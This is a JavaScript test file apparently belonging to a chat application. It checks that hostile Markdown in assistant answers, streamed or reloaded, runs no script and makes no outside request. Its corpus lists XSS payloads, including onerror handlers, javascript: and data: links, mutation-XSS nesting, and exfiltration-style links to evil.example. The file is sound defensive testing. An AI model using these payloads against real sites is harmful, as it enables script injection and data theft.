// Hostile Markdown, as an answer from the network and as history from the server: nothing of it runs, nothing of it loads.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { open } from "./harness.mjs";

const CORPUS = [
  "<script>window.hit=1</script>",
  "<img src=x onerror='window.hit=2'>",
  "<svg onload=window.hit=3><script>window.hit=3</script></svg>",
  "[a](javascript:window.hit=4)",
  "[a](JaVaScRiPt:window.hit=4)",
  "[a](java&#10;script:window.hit=4)",
  "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTU8L3NjcmlwdD4=)",
  "[a](vbscript:x)",
  "![i](https://evil.example/leak.png?q=secret)",
  "![i](x' onerror='window.hit=6)",
  "<iframe srcdoc='<script>parent.hit=7</script>'></iframe>",
  "<a href='/x' onclick='window.hit=8' style='position:fixed;inset:0'>x</a>",
  "<form action='https://evil.example'><button formaction='javascript:window.hit=9'>x</button></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=10></style></mglyph></table></mtext></math>",
  "<details open ontoggle=window.hit=11><summary>x</summary></details>",
  "<div hx-get='/keys' hx-trigger='load' data-hx-get='/keys'>x</div>",
  "<b data-source='1' data-copy='secret' data-retry data-dialog='confirm' id='composer' name='message'>x</b>",
  "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<object data='javascript:window.hit=12'></object><embed src='javascript:window.hit=12'>",
  "```html\n<img src=x onerror=window.hit=13>\n```",
  "| a |\n|---|\n| <img src=x onerror=window.hit=14> |",
  "<style>body{display:none}</style>",
  "<input autofocus onfocus=window.hit=15>",
  "<p class='dialog toast'>x</p>",
  "<noscript><p title='</noscript><img src=x onerror=window.hit=16>'></noscript>",
  "[1][x]\n\n[x]: javascript:window.hit=17",
  "<template><script>window.hit=18</script></template>",
  "<x-y onclick=window.hit=19>z</x-y>",
  "[a](//evil.example/x)",
  "<a href='&#106;avascript:window.hit=20'>x</a>",
];
const ALLOWED = /^(DIV|P|BR|STRONG|EM|DEL|CODE|PRE|A|UL|OL|LI|BLOCKQUOTE|HR|H[3-6]|TABLE|THEAD|TBODY|TR|TH|TD|SUB|SUP|KBD|MARK|DETAILS|SUMMARY|INPUT|SPAN|BUTTON|svg|use)$/;

let house;
before(async () => { house = await open(); });
after(() => house.stop());

/** What stands in the answer that should not. */
function suspicious(pattern) {
  const found = [];
  const own = "markdown rendered|block|code|code-head|wide|cite|icon|button quiet".split("|");
  for (const node of document.querySelectorAll(".answer .markdown *")) {
    if (!new RegExp(pattern).test(node.tagName)) found.push(node.tagName);
    const ours = node.closest(".code-head, .cite");
    for (const { name, value } of node.attributes) {
      if (/^on|^hx-|^data-hx|^style$|^id$|^src|formaction/.test(name)) found.push(`${node.tagName} ${name}=${value}`);
      if (name.startsWith("data-") && !ours && name !== "data-markdown") found.push(`${node.tagName} ${name}`);
      if (name === "href" && !ours && !/^(https?:|mailto:|tel:|\/(?!\/))/.test(value)) found.push(`href ${value}`);
      if (name === "class" && !own.includes(value) && !value.startsWith("language-")) found.push(`class ${value}`);
    }
  }
  return found;
}

async function check(page, requests) {
  await page.waitForTimeout(50);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  assert.deepEqual(await page.evaluate(suspicious, ALLOWED.source), []);
  assert.deepEqual(requests.filter((url) => !url.startsWith(house.base)), []);
  assert.equal(requests.filter((url) => url.endsWith("/keys")).length, 0);
  assert.deepEqual(page.wrong, []);
}

test("hostile answers, streamed and again after a reload", async () => {
  const page = await house.page("/");
  const requests = [];
  page.on("request", (request) => requests.push(request.url()));
  for (const text of CORPUS) {
    await page.fill("#message", `echo ${text}`);
    await page.click("#send");
    await page.waitForSelector("#send:not([hidden])");
    await check(page, requests);
  }
  await page.reload();
  await page.waitForFunction((count) => document.querySelectorAll(".markdown.rendered").length === count, CORPUS.length);
  await check(page, requests);
  await page.close();
});

test("markup that is not kept is shown as text, what is kept is rendered", async () => {
  const page = await house.page("/");
  await page.fill("#message", "echo Use <blink>this</blink> or H<sub>2</sub>O <br> and `<b>`");
  await page.click("#send");
  await page.waitForSelector("#send:not([hidden])");
  const answer = page.locator(".answer .markdown");
  assert.match(await answer.innerText(), /Use <blink>this<\/blink> or H2O\s+and <b>/);
  assert.equal(await answer.locator("sub").count(), 1);
  await page.close();
});

test("a hostile question stays text", async () => {
  const page = await house.page("/");
  await page.fill("#message", "<img src=x onerror=window.hit=1> **bold**");
  await page.click("#send");
  await page.waitForSelector("#send:not([hidden])");
  assert.equal(await page.locator(".bubble").innerText(), "<img src=x onerror=window.hit=1> **bold**");
  assert.equal(await page.evaluate(() => window.hit), undefined);
  await page.close();
});
